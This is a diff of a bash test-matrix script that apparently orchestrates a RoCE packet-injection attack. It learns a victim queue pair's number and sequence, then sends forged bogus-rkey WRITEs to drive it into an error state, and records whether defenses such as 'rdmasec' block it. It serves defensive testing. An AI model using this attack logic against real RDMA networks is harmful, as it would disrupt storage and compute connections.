@@ -13,11 +13,24 @@
 # REP told the server's QPN and the PSN it expects). One packet.
 . "$(dirname "${BASH_SOURCE[0]}")/common.bash"
 
+# The hit check polled by the rounds (cells/common.bash): the attacked
+# side's own error, else rxe's ERR state of the target QP, else the other
+# side's error; prints it, returns 1 if none.
+_cell_qp_error_hit() {
+	local l
+	cell_victim_error_line dst && return 0
+	cell_qp_snapshot
+	l=$(cell_server_qp_err) && { printf '%s' "$l"; return 0; }
+	cell_victim_error_line
+}
+
 cell_qp_error() {
 	local v=$1 count=200000 line ap
 	# nvmf: the broken target QP is silent; the host finds out when an I/O
 	# times out: 10 s instead of the kernel's 30 (the cell waits for it).
 	[ "$v" = nvmf ] && VICTIM_SECONDS=60 NVMF_IO_TIMEOUT=10
+	# These retry until judged: the victim lives on until then.
+	case "$v" in naive | rdmasec | pingpong) cell_victim_for_the_cell ;; esac
 	[ "$v" = ucmatose ] && cell_cm_capture_start
 	victim_start "$v" || { matrix_result qp-error "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
 	cell_cm_stop
@@ -28,6 +41,8 @@ cell_qp_error() {
 	write_bw) victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
 	send_bw) cell_aim_at_client && victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
 	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
+	# Its rounds capture their own.
+	pingpong) true ;;
 	*) victim_wire_bth --now ;;
 	esac ||
 		{ matrix_result qp-error "$v" error "" "no RoCE request (or QPN/PSN told in clear) seen"; victim_stop; return; }
@@ -41,18 +56,30 @@ cell_qp_error() {
 		cell_nvmf_verdict qp-error "bogus-rkey WRITEs from PSN $((WIRE_PSN + 1)) at QP $WIRE_QPN"
 		return
 	fi
-	# These hold still at the next PSN: one exact packet.
-	case "$v" in naive | rdmasec | write_bw | send_bw | ucmatose) count=1 ;; esac
-	fabric on 3 "$ATK" qp-error --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
-		--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):$count" --iface fab3 --sport 4242 \
-		--kind rkey --rkey 0x1234 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
-	ap=$!
-	cell_watch_qp $ap
+	case "$v" in
+	naive) cell_exact_rounds _cell_qp_error_hit qp-error --kind rkey --rkey 0x1234 ;;
+	rdmasec) cell_exact_rounds cell_rdmasec_hit qp-error --kind rkey --rkey 0x1234 ;;
+	# pingpong: rounds of 20000 PSNs (about 3 s idle), each from a request seen then.
+	pingpong) cell_stream_rounds _cell_qp_error_hit qp-error 20000 --kind rkey --rkey 0x1234 ;;
+	*)
+		# These hold still at the next PSN: one exact packet.
+		case "$v" in write_bw | send_bw | ucmatose) count=1 ;; esac
+		fabric on 3 "$ATK" qp-error --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+			--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):$count" --iface fab3 --sport 4242 \
+			--kind rkey --rkey 0x1234 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+		ap=$!
+		cell_watch_qp $ap
+		;;
+	esac
 	echo "qp-error exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
 	# ucmatose prints nothing when its QP breaks: rxe's state right after the packet shows it.
 	[ "$v" = ucmatose ] && cell_final_qp_check
 	victim_attack_done
-	victim_wait 12
+	case "$v" in
+	naive | pingpong) victim_stop ;;
+	rdmasec) cell_rdmasec_end ;;
+	*) victim_wait 12 ;;
+	esac
 	if [ "$v" = rdmasec ]; then
 		if line=$(cell_rdmasec_rebuilt qp_errors); then
 			matrix_result qp-error "$v" blocked \
@@ -66,14 +93,19 @@ cell_qp_error() {
 		elif grep -q 'reply: after the attack' "$VICTIM_CLIENT_LOG"; then
 			matrix_result qp-error "$v" error "" "attack missed, connection carried on: $(victim_grep "$VICTIM_CLIENT_LOG" 'reply: after')"
 		else
-			matrix_result qp-error "$v" error "" "neither healed nor closed on the fault: $(cell_rdmasec_undecided)"
+			matrix_result qp-error "$v" error "" "neither healed nor closed on the fault ($CELL_SENT forged sent): $(cell_rdmasec_undecided)"
 		fi
+		return
+	fi
+	# The rounds judged it already.
+	if [ -n "${CELL_HIT:-}" ]; then
+		matrix_result qp-error "$v" succeeded "" "$CELL_EVIDENCE"
 		return
 	fi
 	# perftest's server and rping wait passively: rxe's QP state shows the kill.
 	if line=$(cell_broken_evidence) || { [ "$v" = ucmatose ] && line=$(cell_ucmatose_broken); }; then
 		matrix_result qp-error "$v" succeeded "" "$line"
 	else
-		matrix_result qp-error "$v" error "" "missed: no QP error while the sweep ran (the PSN moved past it); server's last line: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+		matrix_result qp-error "$v" error "" "missed: no QP error ${CELL_ROUNDS:+in $CELL_ROUNDS }while the sweeps ran (the PSN moved past them); server's last line: $(tail -n 1 "$VICTIM_SERVER_LOG")"
 	fi
 }
